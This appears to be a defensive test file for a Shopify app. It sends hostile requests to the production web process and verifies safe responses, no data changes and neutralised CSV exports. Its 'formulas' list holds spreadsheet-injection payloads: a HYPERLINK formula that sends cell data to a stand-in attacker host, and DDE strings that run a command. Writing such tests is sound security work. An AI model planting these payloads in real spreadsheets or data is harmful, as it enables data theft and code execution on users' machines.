import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { db } from "#app/platform/db.server.ts";
import { addressRows, entranceRows } from "#test/hostile/addresses.ts";
import { buyerRows } from "#test/hostile/buyers.ts";
import { fieldRows, oddBodyRows } from "#test/hostile/fields.ts";
import type { Ids } from "#test/hostile/fields.ts";
import { ask, openPage, post } from "#test/hostile/send.ts";
import type { Answer, Row } from "#test/hostile/send.ts";
import { sessionRows } from "#test/hostile/tokens.ts";
import { webhookRows } from "#test/hostile/webhooks.ts";
import { killPrograms } from "#test/support/processes.ts";
import { startSite } from "#test/support/start-web.ts";
import type { Site } from "#test/support/start-web.ts";
import { setUpCheckout } from "#test/support/checkout-api.ts";

/** What nobody of ours asks, sent to the web process as it runs in production: each gets its clear answer, and changes nothing. */

let site: Site;
let ids: Ids;

beforeAll(async () => {
  site = await startSite({ petz: {}, members: [] });
  const shopId = site.world.shop.domain;
  await setUpCheckout(shopId, { coupons: true, rewards: true });
  // The first one who comes is remembered.
  expect((await openPage(site, "/app")).status).toBe(200);
  ids = await makeThings(shopId);
}, 180_000);
afterAll(async () => {
  await killPrograms();
  await site.world.close();
});

async function makeThings(shopId: string): Promise<Ids> {
  const worker = await site.world.startWorker();
  for (const [handle, formula] of formulas) {
    site.world.shop.customer(handle).firstName = formula;
    site.world.shop.placeOrder({ customer: handle, lines: [{ sku: "NP-CHK-20" }] });
  }
  await site.world.settled();
  await worker.stop(5);
  const customer = await db.customer.findFirstOrThrow();
  const failure = await db.failure.findFirstOrThrow();
  const chain = await db.storeChain.create({
    data: { shopId, partner: "heartland", label: "Northside", state: "active", createdBy: "Staff 1" },
  });
  const view = await db.savedView.create({ data: { shopId, name: "Open", query: "", createdBy: "Staff 1" } });
  const distributor = await db.distributor.create({
    data: { shopId, partner: "astro", name: "Acme", accountNumber: "1", updatedBy: "Staff 1" },
  });
  return { customer: customer.id, failure: failure.id, chain: chain.id, view: view.id, distributor: distributor.id };
}

/** What customers may call themselves in a shop. */
const formulas = [
  ["ana", `=HYPERLINK("http://evil.example?"&A1,"ok")`],
  ["ben", `@SUM(1+1)*cmd|' /C calc'!A0`],
  ["chloe", "+1+cmd|' /C calc'!A0"],
  ["elsie", "-2+3"],
  ["kim", "\t=1+1"],
] as const;

/** How many rows each table has. */
async function countRows(): Promise<Record<string, number>> {
  const tables = await db.$queryRaw<{ name: string }[]>`
    SELECT format('%I.%I', table_schema, table_name) AS name FROM information_schema.tables
    WHERE table_type = 'BASE TABLE' AND (table_schema = 'public' OR (table_schema = 'pgboss' AND table_name = 'job')) ORDER BY 1`;
  const counts: [string, number][] = [];
  for (const { name } of tables) {
    const [row] = await db.$queryRawUnsafe<{ count: bigint }[]>(`SELECT count(*) AS count FROM ${name}`);
    counts.push([name, Number(row?.count)]);
  }
  return Object.fromEntries(counts);
}

/** What an answer never holds: where our code is, what the database said, what the environment holds. */
const inside =
  /\bat \S+ \(?(file:|\/|node:)|node_modules|\.server\.ts|PrismaClient|invocation:|violates|syntax error at|test-client-secret|postgres(ql)?:\/\//;

function expectClear(row: Row, { status, headers, body }: Answer): void {
  expect([row.name, status]).toEqual([row.name, expect.toSatisfy((one: number) => [row.status].flat().includes(one))]);
  if (row.says) expect(body).toMatch(row.says);
  expect(body).not.toMatch(inside);
  const location = headers.get("Location");
  if (location) expect(location).toMatch(/^(\/(?![/\\])|https:\/\/(admin\.shopify\.com|[a-z0-9-]+\.myshopify\.com)\/)/);
  expect(headers.get("Set-Cookie")).toBeNull();
}

const groups: [string, () => Row[]][] = [
  ["A webhook", () => webhookRows],
  ["A session", () => sessionRows],
  ["An address", () => addressRows],
  ["An entrance", () => entranceRows],
  ["A buyer's page", () => buyerRows],
  ["A form", () => oddBodyRows],
  ["A text field", () => fieldRows(() => ids)],
];

const accessLog = 'public."AccessLog"';
/** Where what a merchant typed is kept, as the text that it is. */
const mayGrow = new Set(['public."FailureEvent"', 'public."IgnoredItem"', 'public."SavedView"', "pgboss.job"]);

describe.each(groups)("%s", (group, rowsOf) => {
  let before: Record<string, number>;
  beforeAll(async () => {
    before = await countRows();
  });

  it.each(rowsOf().map((row) => [row.name, row] as const))("%s", async (_name, row) => {
    expectClear(row, await row.send(site));
  });

  it("changed nothing", async () => {
    const after = await countRows();
    const changed = Object.keys(after).filter((table) => after[table] !== before[table]);
    // Who asked for a page that shows people is in the book, whatever they were answered.
    const isMeant = (table: string) => table === accessLog || (group === "A text field" && mayGrow.has(table));
    expect(changed.filter((table) => !isMeant(table))).toEqual([]);
    expect(changed.filter((table) => (after[table] ?? 0) < (before[table] ?? 0))).toEqual([]);
  });
});

it("a file for a spreadsheet holds no formula of a customer's", async () => {
  const asked = await post(site, "/app/failures.data?index", { intent: "export", query: "days=all", locale: "en" });
  expect(asked.status).toBe(200);
  const worker = await site.world.startWorker();
  await site.world.settled();
  await worker.stop(5);
  const { id } = await db.bulkRun.findFirstOrThrow({ where: { kind: "export" }, orderBy: { createdAt: "desc" } });
  const file = await ask(site, `/app/exports/${id}`, { headers: { Authorization: `Bearer ${site.world.shop.sessionToken()}` } });
  expect([file.status, file.headers.get("Content-Type")]).toEqual([200, "text/csv; charset=utf-8"]);
  for (const [, formula] of formulas) expect(file.body).toContain(`'${formula.replaceAll('"', '""')}`);
  // Where a cell begins: at a line's beginning or after a comma, quoted or not.
  expect(file.body).not.toMatch(/(?:^|,|\n)"?[=+@\t\r-]/);
});

it("there are more than two hundred of them", () => {
  expect(groups.flatMap(([, rowsOf]) => rowsOf()).length).toBeGreaterThan(200);
});

it("the process had no fault of its own in any of them", () => {
  const faults = site.web
    .output()
    .split("\n")
    .filter((line) => /"event":"(request|page|checkout)_failed"|"status":5\d\d/.test(line));
  expect(faults).toEqual([]);
});
